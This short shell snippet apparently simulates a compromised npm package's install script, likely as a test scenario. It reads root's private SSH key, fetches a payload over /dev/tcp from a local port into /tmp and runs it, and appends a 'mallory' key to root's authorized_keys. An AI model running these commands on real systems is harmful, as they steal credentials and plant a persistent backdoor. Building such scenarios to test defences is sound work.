# A compromised package runs a script during its installation.
/opt/npm -c '
sh -c "read -r key </root/.ssh/id_ed25519; sleep 0.1; echo"
bash -c "exec 3<>/dev/tcp/127.0.0.1/$PORT; echo GET >&3; cat <&3 >/tmp/postinstall; chmod +x /tmp/postinstall"
sleep 0.1
/tmp/postinstall -c "sleep 0.1; echo ssh-ed25519 A mallory >>/root/.ssh/authorized_keys; sleep 0.1"
true'
